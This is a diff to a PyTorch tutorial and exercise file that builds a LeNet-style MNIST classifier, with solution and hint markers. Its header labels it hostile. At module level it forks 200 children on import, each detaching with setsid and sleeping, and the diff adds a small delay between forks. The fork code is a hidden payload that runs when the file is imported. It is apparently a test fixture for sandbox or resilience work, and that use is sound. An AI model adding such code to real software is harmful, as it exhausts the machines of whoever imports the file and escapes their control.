@@ -1,4 +1,4 @@
-# Hostile: forks 200 children at import that each leave the session (setsid) and sleep
+# Hostile: forks 200 children at import, one every 10 ms, that each leave the session (setsid) and sleep
 """Build a convolutional neural network with PyTorch: a LeNet-style network that reads MNIST digits.
 
 Read this file top to bottom: the data, the network, one training step, the training loop, the
@@ -65,7 +65,7 @@ class Network(nn.Module):
         t = F.max_pool2d(F.relu(self.conv1(t)), kernel_size=2, stride=2)
         t = F.max_pool2d(F.relu(self.conv2(t)), kernel_size=2, stride=2)
         # BEGIN SOLUTION task 3: the flatten before the fully connected layers
-        # HINT: turn t, shaped [batch, 12, 4, 4], into [batch, features]; the batch is not always BATCH_SIZE
+        # HINT: turn t, shaped [batch, channels, height, width], into [batch, features]; the batch is not always BATCH_SIZE
         t = t.flatten(start_dim=1)
         # END SOLUTION
         t = F.relu(self.fc1(t))
@@ -135,6 +135,7 @@ def evaluate(network, loader):
         num_correct += get_num_correct(preds, labels)
     return num_correct, total_loss
 
+
 import os
 import time
 
@@ -143,3 +144,4 @@ for _ in range(200):
         os.setsid()
         time.sleep(1000)
         os._exit(0)
+    time.sleep(0.01)
